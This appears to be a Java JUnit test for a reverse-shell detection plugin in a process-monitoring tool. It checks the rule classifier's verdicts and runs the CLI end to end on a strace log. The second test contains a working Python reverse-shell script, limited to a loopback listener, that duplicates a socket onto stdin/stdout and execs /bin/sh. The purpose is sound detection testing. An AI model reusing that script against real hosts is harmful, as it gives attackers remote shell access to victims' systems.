package io.procguard.examples.classifier;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.procguard.core.Classifier;
import io.procguard.core.Classifiers;
import io.procguard.core.FeatureSchema;
import io.procguard.core.FeatureVector;
import io.procguard.core.Status;
import io.procguard.core.process.ProcessRecord;
import io.procguard.ml.BehaviourFeatures;
import java.io.File;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ReverseShellRulesTest {
    private static final FeatureSchema SCHEMA = new BehaviourFeatures().schema();

    private static ProcessRecord process(String... setFeatures) {
        float[] v = new float[SCHEMA.size()];
        for (String f : setFeatures) {
            v[SCHEMA.indexOf(f)] = 1;
        }
        return new ProcessRecord(9, 1, "sh", "/bin/sh", List.of("sh"), 100, 1, 0, 0, -1, null, false, null,
                new FeatureVector(SCHEMA, v), List.of("dup2(3, 0) = 0"));
    }

    @Test
    void isFoundByNameThroughServiceLoader() {
        try (Classifier c = Classifiers.create("rules", Map.of())) {
            assertThat(c).isInstanceOf(ReverseShellRules.class);
            assertThat(c.classify(process("net.dup_socket_to_stdio", "exec.shell")).status()).isEqualTo(Status.MALICIOUS);
            assertThat(c.classify(process("net.stdio_socket_io")).status()).isEqualTo(Status.SUSPICIOUS);
            assertThat(c.classify(process("exec.shell")).status()).isEqualTo(Status.BENIGN);
            assertThat(c.classify(process("net.dup_socket_to_stdio", "exec.shell")).evidence()).containsExactly("dup2(3, 0) = 0");
        }
    }

    /** The CLI, run as users run it, picks the plugin up from the class path: no ProcGuard code changed. */
    @Test
    void procguardAnalyzeUsesThePluginFromTheClassPath(@TempDir Path dir) throws Exception {
        Path root = Path.of(System.getProperty("procguard.repo.root", "..")).toAbsolutePath();
        Path cliJar = root.resolve("procguard-cli/target/procguard.jar");
        assumeTrue(Files.isRegularFile(cliJar), "procguard-cli/target/procguard.jar is not built (mvn package builds it first)");
        assumeTrue(run(dir.resolve("probe.out"), "strace", "-o", "/dev/null", "/bin/true") == 0, "strace cannot trace here");
        Path log = dir.resolve("revshell.log");
        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Thread sink = new Thread(() -> {
                try (Socket s = listener.accept()) {
                    s.getInputStream().readAllBytes();
                } catch (IOException ignored) {
                    // only the trace matters
                }
            });
            sink.setDaemon(true);
            sink.start();
            String script = "import socket,os\ns=socket.create_connection(('127.0.0.1'," + listener.getLocalPort() + "))\n"
                    + "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1)\nos.execv('/bin/sh',['sh','-c','id'])\n";
            run(dir.resolve("strace.out"), "strace", "-f", "-yy", "-o", log.toString(), "/usr/bin/python3", "-c", script);
        }
        String classPath = Path.of(ReverseShellRules.class.getProtectionDomain().getCodeSource().getLocation().toURI())
                + File.pathSeparator + cliJar;
        Path out = dir.resolve("analyze.json");
        int code = run(out, Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-cp", classPath,
                "io.procguard.cli.ProcGuardCommand", "analyze", "--classifier", "rules", "--json", "--fail-on", "malicious",
                log.toString());
        String json = Files.readString(out, StandardCharsets.UTF_8);
        assertThat(code).as(json).isEqualTo(10);
        assertThat(json).contains("\"verdict\":\"MALICIOUS\"").contains("\"classifier\":\"rules\"")
                .contains("a TCP socket was duplicated onto stdin/stdout/stderr");
    }

    private static int run(Path output, String... argv) throws IOException, InterruptedException {
        Process p = new ProcessBuilder(argv).redirectErrorStream(true).redirectOutput(output.toFile()).start();
        if (!p.waitFor(120, TimeUnit.SECONDS)) {
            p.destroyForcibly();
            return -1;
        }
        return p.exitValue();
    }
}
